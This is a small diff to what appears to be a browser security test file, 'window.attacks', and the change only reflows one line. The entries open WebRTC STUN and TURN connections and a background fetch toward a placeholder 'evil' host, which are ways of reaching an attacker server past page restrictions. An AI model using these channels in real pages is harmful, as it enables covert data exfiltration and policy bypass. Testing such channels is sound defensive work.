@@ -47,8 +47,7 @@ Object.assign(window.attacks, {
 
   rtc_dns: (_, name) => iceServer({ urls: `stun:${name}` }),
   rtc_stun_udp: (evil) => iceServer({ urls: `stun:${addressOf(evil)}` }),
-  rtc_turn_tcp: (evil) =>
-    iceServer({ urls: `turn:${addressOf(evil)}?transport=tcp`, username: "x", credential: "x" }),
+  rtc_turn_tcp: (evil) => iceServer({ urls: `turn:${addressOf(evil)}?transport=tcp`, username: "x", credential: "x" }),
 
   bgfetch: async (evil) => {
     if (!window.BackgroundFetchManager) return "absent";
